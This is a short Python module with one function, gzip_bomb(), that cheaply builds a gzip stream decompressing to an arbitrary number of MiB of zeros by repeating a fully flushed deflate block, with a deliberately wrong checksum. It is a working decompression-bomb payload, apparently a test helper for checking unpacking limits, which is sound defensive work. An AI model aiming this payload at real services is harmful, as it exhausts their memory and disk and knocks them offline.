"""Small data that swells."""

from __future__ import annotations

import zlib

__all__ = ["gzip_bomb"]

_MEBIBYTE = 1 << 20
# A header and a trailer of gzip around the data.
_GZIP = 31


def gzip_bomb(mebibytes: int) -> bytes:
    """
    Give a stream of gzip that unpacks to so many MiB of zeros, without the work of packing them.

    Its checksum is wrong, as only whoever unpacks all of it finds out.
    """
    packer = zlib.compressobj(wbits=_GZIP)
    first, second = (packer.compress(bytes(_MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    # Behind a full flush nothing depends on what came before.
    return first + second * (mebibytes - 1) + packer.flush()
